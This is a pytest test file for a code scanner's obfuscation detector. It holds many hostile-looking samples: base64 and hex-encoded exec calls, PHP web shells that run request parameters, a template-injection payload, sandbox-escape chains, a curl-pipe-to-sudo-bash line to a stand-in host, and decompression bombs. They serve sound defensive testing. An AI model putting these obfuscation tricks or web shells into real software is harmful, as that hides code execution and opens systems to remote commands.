from __future__ import annotations

import base64
import bz2
import time
import zlib

import pytest

from parity.scan import Confidence, Severity

CWE = {"obfuscated-exec": "CWE-506", "encoded-payload": "CWE-506", "dynamic-import": "CWE-95",
       "hidden-builtin": "CWE-506", "sandbox-escape": "CWE-693"}
OS_ID = "aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="  # import os; os.system('id')
NESTED = ("ZXhlYyhfX2ltcG9ydF9fKCJiYXNlNjQiKS5iNjRkZWNvZGUoImFXMXdiM0owSUc5ek95QnZjeTV6ZVhOMFpXMG9JbWxrSWlrPSIpKQ==")
LAYERED = "eJxLDDcsTzL2MvB098pINgo18nMsyEl1D8vyhvGdTTP9soKyo8L9yqLcQ/M9c90iQkMMMr2Ds70BRiUTbQ=="
HEX_CODE = "696d706f7274206261736536340a65786563286261736536342e6236346465636f646528226157513d2229290a"
JS_CODE = "Y29uc3QgZGF0YSA9IGNvbGxlY3QoKTsKZXZhbChhdG9iKCJZV3hsY25Rb01Taz0iKSk7CmNvbnNvbGUubG9nKCJkb25lIiwgZGF0YSk7Cg=="

POSITIVE = [
    # Python: each decoder, on its own and through variables
    ("python", f'import base64\nexec(base64.b64decode("{OS_ID}"))\n', "obfuscated-exec", 2),
    ("python", f'from base64 import b64decode\ns = "{OS_ID}"\np = b64decode(s)\nexec(p)\n', "obfuscated-exec", 4),
    ("python", 'import zlib, base64\nexec(zlib.decompress(base64.b64decode("eJzLzC3ILypRyC+2BmK94sriktRcDaXMFCVN'
               'AIM0CRA=")))\n', "obfuscated-exec", 2),
    ("python", "exec(''.join(chr(c) for c in [105, 109, 112, 111, 114, 116, 32, 111, 115]))", "obfuscated-exec", 1),
    ("python", "exec(''.join(map(chr, [105, 109, 112, 111, 114, 116, 32, 111, 115])))", "obfuscated-exec", 1),
    ("python", "exec(chr(105) + chr(100))", "obfuscated-exec", 1),
    ("python", "import codecs\neval(codecs.decode(\"vzcbeg bf; bf.flfgrz('vq')\", 'rot13'))", "obfuscated-exec", 2),
    ("python", "exec(\"so tropmi\"[::-1])", "obfuscated-exec", 1),
    ("python", 'exec("\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20\\x6f\\x73")', "obfuscated-exec", 1),
    ("python", 'exec(bytes.fromhex("696d706f7274206f73").decode())', "obfuscated-exec", 1),
    ("python", "import marshal, zlib\nexec(marshal.loads(zlib.decompress(blob)))", "obfuscated-exec", 2),
    ("python", "import base64, sys\nexec(base64.b64decode(sys.argv[1]))", "obfuscated-exec", 2),
    ("python", 'exec("import o" + "s; o" + "s.system(\'id\')")', "obfuscated-exec", 1),
    ("python", f'p = "{OS_ID[:20]}"\np += "{OS_ID[20:]}"\nexec(base64.b64decode(p))', "obfuscated-exec", 3),
    ("python", 'import subprocess, base64\ncmd = base64.b64decode("aWQ7IHVuYW1lIC1h").decode()\n'
               "subprocess.run(cmd, shell=True)", "obfuscated-exec", 3),
    ("python", 'import os\nos.system(__import__("base64").b64decode("aWQ7IHVuYW1lIC1h").decode())', "obfuscated-exec",
     2),
    ("python", '_ = lambda __ : __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]))\n'
               'exec((_)(b"=oRCXNIANVHFMXfDcRtkirs49KmB2+CyRpyLI3CzLzJe"))', "obfuscated-exec", 2),
    ("python", "import base64\ndef dec(s):\n    return base64.b64decode(s)\nexec(dec('aWQ='))", "obfuscated-exec", 4),
    ("python", 'm = __import__("o" + "s")', "dynamic-import", 1),
    ("python", 'import importlib, base64\nm = importlib.import_module(base64.b64decode("b3M=").decode())',
     "dynamic-import", 2),
    ("python", 'getattr(__builtins__, "ev" + "al")("1 + 1")', "hidden-builtin", 1),
    ("python", 'import builtins\nf = getattr(builtins, "exec")', "hidden-builtin", 2),
    ("python", 'globals()["__builtins__"]["ex" + "ec"](code)', "hidden-builtin", 1),
    ("python", "import os\nf = getattr(getattr(os, a), b)", "hidden-builtin", 2),
    ("python", 'import sys\nm = sys.modules["o" + "s"]', "hidden-builtin", 2),
    ("python", "import builtins\nrun = builtins.__dict__['exec']", "hidden-builtin", 2),
    ("python", "x = ().__class__.__bases__[0].__subclasses__()", "sandbox-escape", 1),
    ("python", "t = \"{{ ''.__class__.__mro__[1].__subclasses__() }}\"", "sandbox-escape", 1),
    ("python", "payload = \"{{ cycler.__init__.__globals__.os.popen('id').read() }}\"", "sandbox-escape", 1),
    # JavaScript / TypeScript
    ("javascript", 'eval(atob("YWxlcnQoMSk="));', "obfuscated-exec", 1),
    ("javascript", 'const s = Buffer.from("YWxlcnQoMSk=", "base64").toString();\nnew Function(s)();',
     "obfuscated-exec", 2),
    ("javascript", "eval(String.fromCharCode(97, 108, 101, 114, 116, 40, 49, 41));", "obfuscated-exec", 1),
    ("javascript", 'eval(")1(trela".split("").reverse().join(""));', "obfuscated-exec", 1),
    ("javascript", 'eval(unescape("%61%6c%65%72%74%28%31%29"));', "obfuscated-exec", 1),
    ("javascript", 'const vm = require("vm");\nvm.runInNewContext(Buffer.from(p, "hex").toString());',
     "obfuscated-exec", 2),
    ("javascript", 'const d = (s) => atob(s);\neval(d("YWxlcnQoMSk="));', "obfuscated-exec", 2),
    ("javascript", "eval(function(p,a,c,k,e,d){e=function(c){return c};return p}('0(1)',2,2,'alert|1'.split('|')))",
     "obfuscated-exec", 1),
    ("javascript", 'global["ev" + "al"](code);', "hidden-builtin", 1),
    ("javascript", 'const e = window[atob("ZXZhbA==")];', "hidden-builtin", 1),
    ("javascript", 'const cp = require(Buffer.from("Y2hpbGRfcHJvY2Vzcw==", "base64").toString());',
     "dynamic-import", 1),
    ("javascript", 'require("child_" + "process").exec("id");', "dynamic-import", 1),
    ("javascript", 'this.constructor.constructor("return process")();', "sandbox-escape", 1),
    ("typescript", 'const run = (s: string): void => eval(atob("YWxlcnQoMSk="));', "obfuscated-exec", 1),
    # PHP
    ("php", '<?php\neval(base64_decode("ZWNobyBzaGVsbF9leGVjKCRfR0VUWydjJ10pOw=="));', "obfuscated-exec", 2),
    ("php", '<?php\neval(gzinflate(base64_decode("K64sLknN1VCJd3cNiVZPVo/VtAYA")));', "obfuscated-exec", 2),
    ("php", '<?php\nassert(str_rot13("flfgrz($_TRG[\'p\']);"));', "obfuscated-exec", 2),
    ("php", "<?php\n$d = 'base64_decode';\neval($d('ZWNobyAxOw=='));", "obfuscated-exec", 3),
    ("php", "<?php\n$f = 'sys' . 'tem';\n$f($_GET['c']);", "dynamic-import", 3),
    ("php", "<?php\n$_GET['f']($_GET['c']);", "dynamic-import", 2),
    ("php", "<?php\n$f = chr(115) . chr(121) . chr(115) . chr(116) . chr(101) . chr(109);\n$f('id');",
     "dynamic-import", 3),
    ("php", "<?php\ncall_user_func('sys' . 'tem', 'id');", "dynamic-import", 2),
    ("php", "<?php\npreg_replace('/.*/e', $_POST['code'], '');", "obfuscated-exec", 2),
    ("php", "<?php\ninclude('php://input');", "obfuscated-exec", 2),
    # shell
    ("shell", 'echo "aWQ7IHVuYW1lIC1h" | base64 -d | bash', "obfuscated-exec", 1),
    ("shell", 'set -e\neval "$(echo aWQ7IHVuYW1lIC1h | base64 --decode)"', "obfuscated-exec", 2),
    ("shell", 'bash -c "$(printf %s aWQ7IHVuYW1lIC1h | base64 -d)"', "obfuscated-exec", 1),
    ("shell", 'base64 -d <<< "aWQ7IHVuYW1lIC1h" | sh', "obfuscated-exec", 1),
    ("shell", "curl -s https://x.example/p | base64 -d | sudo bash", "obfuscated-exec", 1),
    ("shell", 'echo -e "\\x69\\x64\\x3b\\x20\\x6c\\x73" | sh', "obfuscated-exec", 1),
    ("shell", "bash <(echo aWQ7IHVuYW1lIC1h | base64 -d)", "obfuscated-exec", 1),
    ("shell", "echo 69643b206c73 | xxd -r -p | sh", "obfuscated-exec", 1),
    ("shell", "P=aWQ7IHVuYW1lIC1h\necho $P | base64 -d | sh", "obfuscated-exec", 2),
    # Go, Java, C
    ("go", 'package main\nfunc main() {\n\tdata, _ := base64.StdEncoding.DecodeString("aWQ=")\n'
           '\texec.Command("sh", "-c", string(data)).Run()\n}', "obfuscated-exec", 4),
    ("java", 'class A { void f() throws Exception {\n'
             '  Runtime.getRuntime().exec(new String(Base64.getDecoder().decode("aWQ=")));\n}}', "obfuscated-exec", 2),
    ("java", 'class A { void f() throws Exception {\n'
             '  Class.forName(new String(new byte[]{106, 97, 118, 97})).getMethod("x");\n}}', "dynamic-import", 2),
    ("c", '#include <stdlib.h>\nint main() { system("\\x72\\x6d\\x20\\x2d\\x72\\x66\\x20\\x2f\\x74\\x6d\\x70"); }',
     "obfuscated-exec", 2),
    # encoded literals that decode to code with findings of their own
    ("python", f'PAYLOAD = "{LAYERED}"\n', "encoded-payload", 1),
    ("python", f'X = "{HEX_CODE}"\n', "encoded-payload", 1),
    ("javascript", f'const blob = "{JS_CODE}";\n', "encoded-payload", 1),
]

NEGATIVE = [
    ("python", "import base64, json\ndata = base64.b64decode(encoded)\n"
               "obj = json.loads(base64.b64decode(token).decode('utf-8'))\n"),
    ("python", "import importlib\nmod = importlib.import_module(name)\n"
               "plugin = importlib.import_module(f'plugins.{name}')\nm = __import__('json')\n"),
    ("python", "handler = getattr(self, 'on_' + event)\nvalue = getattr(settings, 'DEBUG', False)\n"
               "frozen = getattr(sys, 'frozen', False)\n"),
    ("python", "import os, subprocess\nsubprocess.run(['ls', '-l'], check=True)\nos.system('clear')\n"),
    ("python", "exec(compile(source, filename, 'exec'))\nresult = eval(expr, {'__builtins__': {}}, ns)\n"),
    ("python", "ICON = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJ"
               "RU5ErkJggg=='\nSHA = '" + "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08" * 2
               + "'\n"),
    ("python", "HELLO = '" + base64.b64encode(b"print('hello world, a friendly and harmless greeting')").decode()
               + "'\n"),
    ("python", "name = ''.join(reversed(items))\nrev = 'hello'[::-1]\nprint(chr(65) + chr(66))\n"
               "mod = sys.modules[__name__]\nfn = globals()[handler_name]\n"),
    ("python", "plugins = {c.__name__: c for c in Base.__subclasses__()}\nkids = self.__class__.__subclasses__()\n"),
    ("javascript", "const data = Buffer.from(str, 'base64').toString('utf8');\n"
                   "const obj = JSON.parse(atob(token.split('.')[1]));\n"
                   "const mod = require(path.join(__dirname, 'plugins', name));\nconst cb = window[callbackName];\n"),
    ("javascript", "const s = 'abc'.split('').reverse().join('');\nconst { exec } = require('child_process');\n"
                   "exec('ls -la', cb);\nsetTimeout(() => run(), 100);\n"
                   "const img = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlE';\n"),
    ("php", "<?php\n$data = base64_decode($_POST['img']);\nfile_put_contents('a.png', $data);\n"
            "$fn = 'strtolower';\necho $fn('ABC');\narray_map('trim', $arr);\n"
            "call_user_func([$this, 'handle'], $x);\n"),
    ("shell", 'echo "$CERT" | base64 -d > /etc/ssl/cert.pem\ncurl -fsSL https://get.docker.com -o get-docker.sh\n'
              'kubectl get secret x -o jsonpath="{.data.password}" | base64 --decode\necho hello | rev\n'),
    ("go", 'package main\nfunc main() {\n\tdata, _ := base64.StdEncoding.DecodeString(s)\n'
           '\tos.WriteFile("out.bin", data, 0o600)\n\texec.Command("ls", "-l").Run()\n}'),
    ("java", 'class A { byte[] f(String s) { return Base64.getDecoder().decode(s); }\n'
             '  void g() throws Exception { Class.forName("org.postgresql.Driver"); } }'),
]


@pytest.mark.parametrize(("language", "code", "rule", "line"), POSITIVE)
def test_flags_obfuscated_code(scan_with, language, code, rule, line):
    found = [f for f in scan_with("obfuscation")(code, language=language) if f.payload_depth == 0]
    assert (rule, CWE[rule], line) in [(f.rule, f.cwe, f.line) for f in found]


@pytest.mark.parametrize(("language", "code"), NEGATIVE)
def test_leaves_ordinary_decoding_alone(scan_with, language, code):
    assert scan_with("obfuscation")(code, language=language) == []


def test_decoded_payload_is_scanned_as_code(scan_with):
    found = scan_with("obfuscation")(f'import base64\nexec(base64.b64decode("{NESTED}"))\n', language="python")
    assert {(f.rule, f.line, f.payload_depth) for f in found} >= {("obfuscated-exec", 2, 0)}
    inner = scan_with("obfuscation")(f'P = "{NESTED}"\n', language="python")
    assert sorted((f.rule, f.payload_depth) for f in inner) == [("encoded-payload", 0), ("obfuscated-exec", 1)]
    assert next(f for f in inner if f.payload_depth == 1).message.startswith("in a decoded payload")


def test_shell_payload_inside_a_python_string_is_scanned(scan_with):
    found = scan_with("obfuscation")('import os\nos.system("echo aWQ= | base64 -d | sh")\n', language="python")
    assert [(f.rule, f.line, f.payload_depth) for f in found] == [("obfuscated-exec", 2, 1)]


def test_decode_pipe_into_a_shell_is_caught_inside_any_string(scan_with):
    found = scan_with("obfuscation")('import os\nos.system(f"echo {blob} | base64 -d | bash")\n', language="python")
    assert [(f.rule, f.line) for f in found] == [("obfuscated-exec", 2)]


def test_inline_interpreter_code_is_scanned(scan_with):
    found = scan_with("obfuscation")("python3 -c \"import base64;exec(base64.b64decode('aWQ='))\"", language="shell")
    assert [(f.rule, f.payload_depth) for f in found] == [("obfuscated-exec", 1)]


def test_severity_and_confidence(scan_with):
    scan = scan_with("obfuscation")
    literal = scan(f'exec(__import__("base64").b64decode("{OS_ID}"))', language="python")[0]
    assert (literal.severity, literal.confidence) == (Severity.CRITICAL, Confidence.HIGH)
    unknown = scan("exec(base64.b64decode(sys.argv[1]))", language="python")[0]
    assert (unknown.severity, unknown.confidence) == (Severity.CRITICAL, Confidence.MEDIUM)
    fragments = scan('exec("import o" + "s")', language="python")[0]
    assert (fragments.severity, fragments.confidence) == (Severity.HIGH, Confidence.MEDIUM)
    webshell = scan("<?php\n$_POST['f']($_POST['c']);", language="php")[0]
    assert webshell.severity == Severity.CRITICAL


def test_broken_code_still_scanned_by_the_fallback_patterns(scan_with):
    answer = "Run this:\n```python\nimport base64\nexec(base64.b64decode('aWQ=')\n    if x\n"
    assert [(f.rule, f.line) for f in scan_with("obfuscation")(answer)] == [("obfuscated-exec", 4)]
    php = "```php\n<?php\nfunction x( {\neval(gzinflate(base64_decode('K64sLknN1VCJd3cNiVZPVo/VtAYA'))\n"
    assert ("obfuscated-exec", 4) in [(f.rule, f.line) for f in scan_with("obfuscation")(php)]


BOMB = base64.b64encode(zlib.compress(b"\0" * 5_000_000, 9)).decode()
HOSTILE = [
    ("python", "a" * 100_000),
    ("python", "x = " + "[" * 3000 + "]" * 3000),
    ("python", f'exec(zlib.decompress(base64.b64decode("{BOMB}")))'),
    ("python", f'X = "{base64.b64encode(bz2.compress(b"A" * 5_000_000)).decode()}"'),
    ("python", 'exec(base64.b64decode("' + "QUFB" * 100_000 + '"))'),
    ("python", "p = p + p\np = p + p\nexec(p)"),
    ("javascript", "eval(String.fromCharCode(" + ",".join(["97"] * 20_000) + "))"),
    ("shell", "echo " + "QUFB" * 50_000 + " | base64 -d | rev | sh"),
]


@pytest.mark.parametrize(("language", "code"), HOSTILE)
def test_hostile_input_is_bounded(scan_with, language, code):
    start = time.perf_counter()
    scan_with("obfuscation")(code, language=language)
    assert time.perf_counter() - start < 10
